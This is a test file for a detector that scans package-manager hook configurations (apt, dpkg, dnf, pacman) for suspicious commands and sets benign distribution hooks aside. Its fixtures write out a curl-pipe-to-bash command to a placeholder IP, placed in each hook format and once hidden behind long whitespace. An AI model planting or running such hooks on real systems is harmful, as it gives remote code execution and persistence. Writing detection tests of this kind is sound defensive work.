import { expect, test } from 'vitest';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { packageHooks } from './package-hooks.ts';

test('hooks of each package manager are read, and telling ones are told openly', () => {
  const fetch = 'curl -s http://198.51.100.7/a.sh | bash';
  expect(
    openSightings(packageHooks, {
      '/etc/apt/apt.conf.d/99x': `// x\nAPT::Update::Pre-Invoke {\n  "${fetch}";\n};\nAcquire::Retries "3";\n`,
      '/etc/dpkg/dpkg.cfg.d/x': `post-invoke=${fetch}\n`,
      '/etc/dnf/plugins/post-transaction-actions.d/x.action': `*:any:${fetch}\n`,
      '/etc/pacman.d/hooks/x.hook': `[Action]\nWhen = PostTransaction\nExec = /bin/sh -c '${fetch}'\n`,
    }),
  ).toMatchObject([
    { line: 3, ...because('fetches-and-runs') },
    { line: 1, ...because('fetches-and-runs') },
    { line: 1, ...because('fetches-and-runs') },
    { line: 3, ...because('fetches-and-runs') },
  ]);
});

test('hooks as distributions and images have them are told aside', () => {
  const files = {
    '/etc/apt/apt.conf.d/docker-clean':
      '# a\nDPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\nDir::Cache::pkgcache "";\n',
    '/etc/apt/apt.conf.d/50appstream':
      'APT::Update::Post-Invoke-Success {\n"if x; then appstreamcli refresh > /dev/null; fi";\n};\n',
    '/etc/apt/apt.conf.d/70debconf': 'DPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};\n',
  };
  expect(sightings(packageHooks, files)).toMatchObject([
    { aside: true, value: { starts: 'if x; then appstreamcli refresh > /dev/null; fi' } },
    { aside: true, value: { starts: '/usr/sbin/dpkg-preconfigure --apt || true' } },
    { aside: true, value: { starts: 'rm -f /var/cache/apt/archives/*.deb || true' } },
  ]);
});

test('a long line hides no hook', () => {
  const hook = `DPkg::Post-Invoke {${' '.repeat(20_000)}"curl -s http://198.51.100.7/a.sh | bash";};\n`;
  expect(openSightings(packageHooks, { '/etc/apt/apt.conf.d/x': hook })).toMatchObject([because('fetches-and-runs')]);
});
